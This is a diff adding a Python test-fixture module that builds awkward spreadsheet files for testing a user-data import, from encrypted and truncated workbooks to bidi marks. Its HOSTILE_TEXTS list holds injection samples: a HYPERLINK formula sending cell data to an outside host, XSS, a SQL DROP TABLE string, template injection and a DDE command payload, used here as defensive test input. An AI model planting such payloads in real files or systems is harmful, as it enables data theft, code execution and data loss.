@@ -1,0 +1,325 @@
+"""Awkward workbooks, built as files: what people really drop into the folder.
+
+Each builder writes one file below `folder` and returns its path.
+"""
+
+import io
+import re
+import unicodedata
+import zipfile
+from collections.abc import Callable, Sequence
+from datetime import date, datetime
+from pathlib import Path
+
+import msoffcrypto.format.ooxml
+from openpyxl import Workbook
+from openpyxl.worksheet.worksheet import Worksheet
+
+from etl.contract import COLUMNS
+from tests.workbook_xml import CONTENT_TYPES, edit, write_ods
+
+Cell = str | int | float | date | datetime | bool | None
+Row = Sequence[Cell]
+
+HEADER: tuple[str, ...] = tuple(column.header for column in COLUMNS)
+
+ZOE: Row = (
+    "Zoé Martin", 31, "femme", "zoe@x.fr", "06 11 22 33 44", "français", "vidéo", "Python, Linux",
+    "master", 5, "avancé",
+)  # fmt: skip
+ALI: Row = (
+    "Ali Haddad", 44, "homme", "ali@x.fr", "06 55 66 77 88", "arabe", "texte", "Java",
+    "licence", 20, "débutant",
+)  # fmt: skip
+
+MAX_CELL = 32_767  # characters that Excel lets into a cell
+MEGABYTE = 1_000_000
+
+
+def row(**cells: Cell) -> Row:
+    """Zoé's row with some cells replaced, named by their field: `row(email="", age="vingt")`."""
+    fields = [column.field for column in COLUMNS]
+    unknown = cells.keys() - set(fields)
+    if unknown:
+        raise KeyError(f"no such field: {', '.join(sorted(unknown))}")
+    return tuple(cells.get(field, cell) for field, cell in zip(fields, ZOE, strict=True))
+
+
+def workbook(path: Path, *rows: Row, header: Sequence[str] | None = HEADER, sheet: str = "Feuil1") -> Path:
+    """One sheet with a header (none when it is None) and these literal rows."""
+    book = Workbook()
+    _fill(_only_sheet(book, sheet), [*([header] if header is not None else []), *rows])
+    book.save(path)
+    return path
+
+
+def title_rows_above(folder: Path) -> Path:
+    """Two title rows and an empty one stand above the header; the data starts in row 5."""
+    return workbook(
+        folder / "title_rows.xlsx",
+        ("Utilisateurs InLearning",),
+        ("Export du", date(2026, 1, 31)),
+        (),
+        HEADER,
+        ZOE,
+        ALI,
+        header=None,
+    )
+
+
+def empty_rows_between(folder: Path) -> Path:
+    """Empty rows, and rows of spaces only, between Zoé (row 3) and Ali (row 6)."""
+    blank: Row = ("   ", None, "", " ")
+    return workbook(folder / "empty_rows.xlsx", (), ZOE, (), blank, ALI, (), blank)
+
+
+def numbers_and_dates(folder: Path) -> Path:
+    """Ages and years as text, as floats and as numbers; dates and a date as text where none belongs."""
+    return workbook(
+        folder / "numbers_and_dates.xlsx",
+        row(email="text@x.fr", age="31", total_experience_years="5"),
+        row(email="float@x.fr", age=31.0, total_experience_years=5.5, phone=611223344),
+        row(email="comma@x.fr", age=" 31 ", total_experience_years="5,5"),
+        row(email="date@x.fr", age=date(1990, 5, 17), phone=datetime(2026, 1, 31, 12, 30)),  # noqa: DTZ001 - Excel's have none
+        row(email="datetext@x.fr", age="17/05/1990"),
+        row(email="bool@x.fr", age=True),
+    )
+
+
+def cover_sheet_first(folder: Path) -> Path:
+    """A cover sheet stands before the sheet with the data."""
+    book = Workbook()
+    _fill(_only_sheet(book, "Couverture"), [("InLearning",), ("Rapport mensuel",), ("Auteur", "Service RH")])
+    _fill(book.create_sheet("Données"), [HEADER, ZOE, ALI])
+    return _save(book, folder / "cover_sheet.xlsx")
+
+
+def two_data_sheets(folder: Path) -> Path:
+    """Two sheets could both be the data: each has the header."""
+    book = Workbook()
+    _fill(_only_sheet(book, "Janvier"), [HEADER, ZOE])
+    _fill(book.create_sheet("Février"), [HEADER, ALI])
+    return _save(book, folder / "two_sheets.xlsx")
+
+
+def decomposed_header(folder: Path) -> Path:
+    """Header with decomposed accents (NFD), as macOS writes them."""
+    header = [unicodedata.normalize("NFD", name) for name in HEADER]
+    return workbook(folder / "decomposed.xlsx", ZOE, header=header)
+
+
+def untidy_header(folder: Path) -> Path:
+    """Other case, no accents, spaces, line breaks and the older spellings of the columns."""
+    header = ("  nom ", "AGE", "sexe", "E-MAIL", "telephone", "Langue\npréférée", "mode d’apprentissage",
+              "centres  d'interet", "niveau_academique", "Experience (annees)", "Niveau predits")  # fmt: skip
+    return workbook(folder / "untidy_header.xlsx", ZOE, header=header)
+
+
+def same_column_twice(folder: Path) -> Path:
+    """`Email` stands in column D and, in another spelling, in column L."""
+    return workbook(folder / "twice.xlsx", (*ZOE, "other@x.fr"), header=(*HEADER, " e-mail "))
+
+
+def unknown_column(folder: Path) -> Path:
+    """A column that the contract does not know stands behind the others."""
+    return workbook(folder / "unknown_column.xlsx", (*ZOE, "bleu"), header=(*HEADER, "Couleur préférée"))
+
+
+def missing_required_column(folder: Path) -> Path:
+    """`Email` is called `Courriel`, which no rule knows."""
+    header = tuple("Courriel" if name == "Email" else name for name in HEADER)
+    return workbook(folder / "courriel.xlsx", ZOE, header=header)
+
+
+def only_required_columns(folder: Path) -> Path:
+    """`Nom` and `Email`, and nothing else."""
+    return workbook(folder / "only_required.xlsx", ("Zoé Martin", "zoe@x.fr"), header=("Nom", "Email"))
+
+
+def header_without_rows(folder: Path) -> Path:
+    """A header and not one row."""
+    return workbook(folder / "no_rows.xlsx")
+
+
+def completely_empty(folder: Path) -> Path:
+    """One sheet without any cell."""
+    return workbook(folder / "empty.xlsx", header=None)
+
+
+def zero_bytes(folder: Path) -> Path:
+    """A file of no bytes at all."""
+    return _write(folder / "zero.xlsx", b"")
+
+
+def offset_table(folder: Path) -> Path:
+    """The header stands in C5, Zoé in C6; the cells before are empty."""
+    indented = [(None, None, *cells) for cells in (HEADER, ZOE, ALI)]
+    return workbook(folder / "offset.xlsx", (), (), (), (), *indented, header=None)
+
+
+def password_protected(folder: Path, password: str = "secret") -> Path:
+    """Encrypted as Excel does it: no zip any more, but an OLE2 container."""
+    plain, encrypted = io.BytesIO(_bytes(ZOE)), io.BytesIO()
+    msoffcrypto.format.ooxml.OOXMLFile(plain).encrypt(password, encrypted)
+    return _write(folder / "password.xlsx", encrypted.getvalue())
+
+
+def truncated(folder: Path) -> Path:
+    """The first half of a workbook: the upload broke off."""
+    whole = _bytes(ZOE, ALI)
+    return _write(folder / "truncated.xlsx", whole[: len(whole) // 2])
+
+
+def csv_renamed(folder: Path) -> Path:
+    """A .csv whose name ends in .xlsx."""
+    lines = [";".join(map(str, cells)) for cells in (HEADER, ZOE)]
+    return _write(folder / "csv.xlsx", "\n".join(lines).encode())
+
+
+def zip_without_workbook(folder: Path) -> Path:
+    """A zip that holds no workbook, renamed .xlsx."""
+    path = folder / "zip.xlsx"
+    with zipfile.ZipFile(path, "w") as archive:
+        archive.writestr("notes.txt", "no workbook")
+    return path
+
+
+def formulas(folder: Path) -> Path:
+    """Formulas that nobody has calculated: the cells hold no value (B2 an age, D3 an email)."""
+    return workbook(folder / "formulas.xlsx", row(age="=30+1"), row(email='=LOWER("ALI@X.FR")'))
+
+
+def error_cells(folder: Path) -> Path:
+    """B2 is the error #REF! and D3 the error #N/A."""
+    return workbook(folder / "errors.xlsx", row(age="#REF!"), row(email="#N/A"))
+
+
+def calculated_formulas(folder: Path) -> Path:
+    """A formula with the value that Excel keeps beside it: B2 is =30+1, and 31."""
+    path = workbook(folder / "calculated.xlsx", row(age="=30+1"))
+    return edit(path, lambda xml: re.sub(r"<f>30\+1</f><v\s*(/>|></v>)", "<f>30+1</f><v>31</v>", xml))
+
+
+def longest_cell(folder: Path) -> Path:
+    """A name of 32,767 characters: the most that Excel lets into a cell."""
+    return workbook(folder / "longest.xlsx", row(full_name="é" * MAX_CELL))
+
+
+def megabyte_cell(folder: Path) -> Path:
+    """A name of 1,000,000 characters: no Excel writes it, but the file format can carry it."""
+    path = workbook(folder / "megabyte.xlsx", row(full_name="MEGABYTE"))
+    return edit(path, lambda xml: xml.replace("MEGABYTE", "z" * MEGABYTE))
+
+
+def control_characters(folder: Path) -> Path:
+    r"""A bell in the name, as Excel escapes it (_x0007_), and the text _x0007_ itself in the next row's."""
+    path = workbook(
+        folder / "control.xlsx", row(full_name="ZoBELLe"), row(full_name="ZoTEXTe", email="text@x.fr")
+    )
+    return edit(path, lambda xml: xml.replace("BELL", "_x0007_").replace("TEXT", "_x005F_x0007_"))
+
+
+def directional_marks(folder: Path) -> Path:
+    """Right-to-left text and marks (U+200F, U+202E) in the name, and one in an email."""
+    return workbook(
+        folder / "directional.xlsx",
+        row(full_name="\u200fزينب\u200f", email="zeinab@x.fr"),
+        row(full_name="Zoé \u202exslx.exe", email="zoe@x.fr"),
+        row(email="\u200fali@x.fr"),
+    )
+
+
+HOSTILE_TEXTS = (
+    '=HYPERLINK("http://x.example/?"&A1,"ici")',
+    "<script>alert(1)</script>",
+    '<img src=x onerror="alert(1)">',
+    "'; DROP TABLE users; --",
+    "{{ 7 * 7 }}",
+    "%(email)s %s \\N \\.",
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+)
+
+
+def hostile_texts(folder: Path) -> Path:
+    """SQL, HTML, templates and formulas as plain text: each is the name of a valid row."""
+    rows = [row(full_name=text, email=f"h{number}@x.fr") for number, text in enumerate(HOSTILE_TEXTS)]
+    return _as_text(folder / "hostile.xlsx", rows, column="A")
+
+
+def hostile_emails(folder: Path) -> Path:
+    """The same texts as emails: each row is to be rejected, and its text kept."""
+    return _as_text(folder / "hostile_emails.xlsx", [row(email=text) for text in HOSTILE_TEXTS], column="D")
+
+
+def with_macros(folder: Path) -> Path:
+    """A workbook of the content type that .xlsm files have."""
+    plain = "vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
+    return edit(
+        workbook(folder / "macros.xlsm", ZOE),
+        lambda xml: xml.replace(plain, "vnd.ms-excel.sheet.macroEnabled.main+xml"),
+        part=CONTENT_TYPES,
+    )
+
+
+def open_document(folder: Path) -> Path:
+    """The smallest .ods (OpenDocument) with a header and two rows."""
+    return write_ods(folder / "users.ods", [HEADER, ZOE, ALI])
+
+
+def lock_file(folder: Path, name: str = "data.xlsx") -> Path:
+    """The `~$` file that Excel keeps beside a workbook that somebody has open."""
+    return _write(folder / f"~${name}", b"\x05Zoe")
+
+
+def _only_sheet(book: Workbook, title: str) -> Worksheet:
+    sheet: Worksheet = book.worksheets[0]
+    sheet.title = title
+    return sheet
+
+
+def _fill(sheet: Worksheet, rows: Sequence[Row]) -> None:
+    for cells in rows:
+        sheet.append(list(cells))
+
+
+def _as_text(path: Path, rows: Sequence[Row], *, column: str) -> Path:
+    """Write the rows with this column as text, even where openpyxl takes a cell for a formula."""
+    book = Workbook()
+    sheet = _only_sheet(book, "Feuil1")
+    _fill(sheet, [HEADER, *rows])
+    for cell in sheet[column]:
+        cell.data_type = "s"
+    return _save(book, path)
+
+
+def _save(book: Workbook, path: Path) -> Path:
+    book.save(path)
+    return path
+
+
+def _bytes(*rows: Row) -> bytes:
+    """A plain workbook as bytes."""
+    book, buffer = Workbook(), io.BytesIO()
+    _fill(_only_sheet(book, "Feuil1"), [HEADER, *rows])
+    book.save(buffer)
+    return buffer.getvalue()
+
+
+def _write(path: Path, content: bytes) -> Path:
+    path.write_bytes(content)
+    return path
+
+
+AWKWARD: dict[str, Callable[[Path], Path]] = {
+    builder.__name__: builder
+    for builder in (
+        title_rows_above, empty_rows_between, numbers_and_dates, cover_sheet_first, two_data_sheets,
+        decomposed_header, untidy_header, same_column_twice, unknown_column, missing_required_column,
+        only_required_columns, header_without_rows, completely_empty, zero_bytes, offset_table,
+        password_protected, truncated, csv_renamed, zip_without_workbook, formulas, error_cells,
+        calculated_formulas, longest_cell, megabyte_cell, control_characters, directional_marks,
+        hostile_texts, hostile_emails, with_macros, open_document,
+    )
+}  # fmt: skip
+"""Every builder that needs nothing but a folder, by its name: for tests over all of them."""
